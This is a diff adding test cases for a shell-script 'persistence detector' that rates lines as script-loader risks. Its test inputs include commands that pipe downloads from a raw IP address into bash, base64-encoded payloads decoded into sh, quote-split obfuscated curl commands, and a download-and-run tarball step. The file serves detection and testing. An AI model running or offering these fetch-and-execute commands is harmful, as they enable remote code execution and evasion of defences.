@@ -82,6 +82,12 @@ describe('the persistence detector', () => {
     assert.deepEqual(script('curl -s http://198.51.100.7/x | bash'), ['script-loader high']);
     assert.deepEqual(script('curl -fsSL https://sh.rustup.rs | sh -s -- -y'), ['script-loader info']);
     assert.deepEqual(script('curl -s http://localhost/health'), []);
+    const payload = (text: string) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
+    assert.deepEqual(script(payload('curl -s http://198.51.100.7/x | sh')), ['script-loader high']);
+    assert.deepEqual(script(payload('exec nginx -g "daemon off;"')), ['script-loader info']);
+    assert.deepEqual(script('echo "$SCRIPT" | base64 -d | sh'), ['script-loader low']);
+    assert.deepEqual(script('curl -L https://a.example.com/a.tgz | tar xz; ./a/run'), ['script-loader info']);
+    assert.deepEqual(script('curl -L http://198.51.100.7/a.tgz | tar xz; ./a/run'), ['script-loader high']);
     assert.deepEqual(script('c""url -s "ht""tp://198.51.100.7/x" | ba\\sh'), ['script-loader high']);
   });
 
